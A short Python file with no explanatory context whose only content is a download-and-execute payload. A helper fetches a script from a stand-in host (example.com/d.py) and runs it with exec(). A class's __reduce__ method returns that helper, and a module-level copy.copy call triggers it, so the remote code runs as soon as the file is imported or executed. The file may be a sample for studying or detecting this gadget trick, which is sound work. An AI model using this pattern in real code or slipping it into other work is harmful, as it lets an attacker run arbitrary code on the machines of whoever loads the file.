import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import copy


class A:
    def __reduce__(self):
        return _go, ()


X = copy.copy(A())
